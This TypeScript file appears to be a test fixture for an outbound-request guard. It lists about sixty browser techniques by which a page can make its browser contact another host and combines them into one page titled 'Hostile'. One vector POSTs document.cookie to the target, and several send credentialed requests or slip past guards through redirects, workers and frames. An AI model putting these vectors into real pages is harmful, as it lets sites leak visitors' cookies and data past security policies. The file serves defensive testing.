/** One way in which a page, opened with site access, may make its browser ask another host for something. */
export interface DoorVector {
  name: string;
  html?: (to: string) => string;
  js?: (to: string) => string;
  /** A page of its own, in a frame. */
  frame?: (to: string) => { body: string; headers?: Record<string, string> };
  /** The guard of all pages stops it, mostly before it begins: that it reaches the other host is not waited for. */
  isNeverBegun?: true;
}

const text = JSON.stringify;
const worker = (code: string): string => `new Worker(URL.createObjectURL(new Blob([${text(code)}])))`;
const away = (to: string, status = 302): string => `/away?status=${status}&to=${encodeURIComponent(to)}`;
const submit = '<script>document.forms[0].submit()</script>';

export const DOOR_VECTORS: readonly DoorVector[] = [
  { name: 'script', html: (to) => `<script src="${to}"></script>` },
  { name: 'img', html: (to) => `<img src="${to}">` },
  { name: 'stylesheet', html: (to) => `<link rel="stylesheet" href="${to}">` },
  { name: 'css-import', html: (to) => `<style>@import url("${to}");</style>` },
  { name: 'css-url', html: (to) => `<div style="width:9px;height:9px;background:url('${to}')"></div>` },
  { name: 'font', js: (to) => `new FontFace('f', 'url(${to})').load()` },
  { name: 'frame', html: (to) => `<iframe src="${to}"></iframe>` },
  { name: 'srcdoc', html: (to) => `<iframe srcdoc="<img src='${to}'>"></iframe>` },
  {
    name: 'blob-frame',
    js: (to) =>
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${to}">'], { type: 'text/html' })); document.body.append(f)`,
  },
  {
    name: 'data-frame',
    html: (to) => `<iframe src="data:text/html,${encodeURIComponent(`<img src="${to}">`)}"></iframe>`,
  },
  { name: 'object', html: (to) => `<object data="${to}"></object>` },
  { name: 'video', html: (to) => `<video src="${to}" preload="auto"></video>` },
  { name: 'fetch', js: (to) => `fetch('${to}', { mode: 'no-cors' })` },
  { name: 'fetch-credentials', js: (to) => `fetch('${to}', { credentials: 'include' })` },
  {
    name: 'fetch-post',
    js: (to) => `fetch('${to}', { method: 'POST', mode: 'no-cors', body: document.cookie })`,
  },
  {
    name: 'xhr-credentials',
    js: (to) => `const x = new XMLHttpRequest(); x.open('GET', '${to}'); x.withCredentials = true; x.send()`,
  },
  { name: 'keepalive', js: (to) => `fetch('${to}', { keepalive: true, mode: 'no-cors' })` },
  { name: 'beacon', js: (to) => `navigator.sendBeacon('${to}', 'x')` },
  { name: 'eventsource', js: (to) => `new EventSource('${to}', { withCredentials: true })` },
  { name: 'socket', js: (to) => `new WebSocket('${to.replace('http', 'ws')}')` },
  { name: 'worker', js: (to) => worker(`fetch('${to}', { mode: 'no-cors', credentials: 'include' })`) },
  { name: 'worker-import', js: (to) => worker(`importScripts('${to}')`) },
  { name: 'worker-socket', js: (to) => worker(`new WebSocket('${to.replace('http', 'ws')}')`) },
  {
    name: 'shared-worker',
    js: (to) => `new SharedWorker(${text(`data:text/javascript,fetch("${to}")`)})`,
    isNeverBegun: true,
  },
  {
    name: 'service-worker',
    js: (to) => `navigator.serviceWorker.register('/worker.js?to=' + encodeURIComponent('${to}'))`,
    isNeverBegun: true,
  },
  { name: 'redirect-301', html: (to) => `<img src="${away(to, 301)}">` },
  {
    name: 'redirect-302',
    js: (to) => `fetch('${away(to, 302)}', { mode: 'no-cors', credentials: 'include' })`,
  },
  {
    name: 'redirect-303',
    js: (to) => `fetch('${away(to, 303)}', { method: 'POST', mode: 'no-cors', body: 'x' })`,
  },
  {
    name: 'redirect-307',
    js: (to) => `fetch('${away(to, 307)}', { method: 'POST', mode: 'no-cors', body: 'x' })`,
  },
  { name: 'redirect-308', html: (to) => `<script src="${away(to, 308)}"></script>` },
  { name: 'redirect-cors', js: (to) => `fetch('${away(to)}', { credentials: 'include' })` },
  { name: 'redirect-twice', html: (to) => `<img src="${away(away(to))}">` },
  { name: 'redirect-frame', html: (to) => `<iframe src="${away(to)}"></iframe>` },
  { name: 'redirect-worker', js: (to) => worker(`importScripts('http://app.example.com${away(to)}')`) },
  { name: 'meta-refresh', frame: (to) => ({ body: `<meta http-equiv="refresh" content="0;url=${to}">` }) },
  { name: 'refresh-header', frame: (to) => ({ body: 'x', headers: { refresh: `0;url=${to}` } }) },
  { name: 'form-get', frame: (to) => ({ body: `<form action="${to}"><input name="a"></form>${submit}` }) },
  { name: 'form-post', frame: (to) => ({ body: `<form method="post" action="${to}"></form>${submit}` }) },
  {
    name: 'form-302',
    frame: (to) => ({ body: `<form method="post" action="${away(to, 302)}"></form>${submit}` }),
  },
  { name: 'prefetch', html: (to) => `<link rel="prefetch" href="${to}">` },
  { name: 'preload', html: (to) => `<link rel="preload" as="image" href="${to}">` },
  { name: 'modulepreload', html: (to) => `<link rel="modulepreload" href="${to}">` },
  {
    name: 'csp-report',
    frame: (to) => ({
      body: '<img src="/blocked">',
      headers: { 'content-security-policy': `img-src 'none'; report-uri ${to}` },
    }),
  },
  {
    name: 'ping',
    frame: (to) => ({ body: `<a id="a" href="#x" ping="${to}">x</a><script>a.click()</script>` }),
  },
  {
    name: 'download',
    frame: (to) => ({ body: `<a id="a" download href="${to}">x</a><script>a.click()</script>` }),
  },
  { name: 'embed', html: (to) => `<embed src="${to}">` },
  { name: 'audio', html: (to) => `<audio src="${to}" preload="auto"></audio>` },
  { name: 'srcset', html: (to) => `<picture><source srcset="${to}"><img alt=""></picture>` },
  { name: 'svg-image', html: (to) => `<svg><image href="${to}"></image></svg>` },
  { name: 'icon', html: (to) => `<link rel="icon" href="${to}">`, isNeverBegun: true },
  { name: 'dynamic-import', js: (to) => `import('${to}')` },
  {
    name: 'module-worker',
    js: (to) =>
      `new Worker(URL.createObjectURL(new Blob([${text(`import '${to}'`)}], { type: 'text/javascript' })), { type: 'module' })`,
  },
  {
    name: 'link-header',
    frame: (to) => ({ body: 'x', headers: { link: `<${to}>; rel=preload; as=image` } }),
  },
  {
    name: 'speculation',
    html: (to) =>
      `<script type="speculationrules">${text({ prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }] })}</script>`,
    isNeverBegun: true,
  },
  { name: 'fetch-later', js: (to) => `fetchLater('${to}', { activateAfter: 0 })`, isNeverBegun: true },
  { name: 'window-open', js: (to) => `open('${to}')`, isNeverBegun: true },
  {
    name: 'userinfo',
    html: (to) => `<img src="${to.replace('http://', 'http://app.example.com:x@')}">`,
    isNeverBegun: true,
  },
  {
    name: 'referrer',
    frame: (to) => ({ body: `<img src="${to}">`, headers: { 'referrer-policy': 'unsafe-url' } }),
  },
];

/** @param targetOf where each is to lead. */
export function hostilePage(
  targetOf: (vector: DoorVector) => string,
  frameOf: (vector: DoorVector) => string,
): string {
  const parts = DOOR_VECTORS.map((vector) => {
    const to = targetOf(vector);
    const frame = vector.frame ? `<iframe src="${frameOf(vector)}"></iframe>` : '';
    const code = vector.js?.(to);
    const script = code ? `<script>(async () => { ${code} })().catch(() => {})</script>` : '';
    return (vector.html?.(to) ?? '') + frame + script;
  });
  return `<!doctype html><title>Hostile</title><body>${parts.join('\n')}`;
}
